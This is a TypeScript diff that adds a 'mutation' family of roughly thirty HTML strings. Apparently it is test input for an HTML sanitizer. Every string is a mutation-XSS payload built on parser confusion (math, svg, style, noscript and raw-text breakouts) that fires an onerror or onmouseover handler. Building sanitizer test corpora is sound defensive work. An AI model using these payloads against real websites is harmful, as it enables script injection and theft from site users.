@@ -1,0 +1,41 @@
+import { RUN, type Family } from './marks'
+
+const IMG = `<img src=x onerror=${RUN}>`
+
+export const mutation: Family = {
+  name: 'mutation',
+  pages: [
+    `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+    `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
+    `<math><mtext><table><mglyph><style><math><table id="</table>${IMG}">`,
+    `<svg></p><style><g title="</style>${IMG}">`,
+    `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
+    `<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>${IMG}">`,
+    `<noscript><p title="</noscript>${IMG}">`,
+    `<noscript><style></noscript>${IMG}</style>`,
+    `<noembed><p title="</noembed>${IMG}"></noembed>`,
+    `<noframes><p title="</noframes>${IMG}"></noframes>`,
+    `<xmp><p title="</xmp>${IMG}"></xmp>`,
+    `<iframe><p title="</iframe>${IMG}"></iframe>`,
+    `<textarea><p title="</textarea>${IMG}"></textarea>`,
+    `<title><p title="</title>${IMG}"></title>`,
+    `<style><p title="</style>${IMG}"></style>`,
+    `<template><p title="</template>${IMG}"></template>`,
+    `<select><style></select>${IMG}</style></select>`,
+    `<select><iframe></select>${IMG}</iframe></select>`,
+    `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
+    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+    `<pre>\n\n\n\n\n&lt;img src=x onerror=${RUN}&gt;</pre>`,
+    `<p><svg><p></svg><style><a title="</style>${IMG}">`,
+    `<table><style><td title="</style>${IMG}"></table>`,
+    `<plaintext><p title="${IMG}">`,
+    `<a><table><a><math><style></a></table>${IMG}</style>`,
+    `<b><table><b><svg><style></b></table>${IMG}</style>`,
+    `<style><style/></style>${IMG}</style>`,
+    `<div id="x\`${IMG}">\`</div>`,
+    `<p id=\`\`onmouseover=${RUN}>x`,
+    `<dfn title="&lt;!--&gt;&lt;/dfn&gt;${IMG.replace(/</g, '&lt;')}">x</dfn>`,
+    `<font face="a\u0000b</font>${IMG}">x</font>`,
+  ],
+}
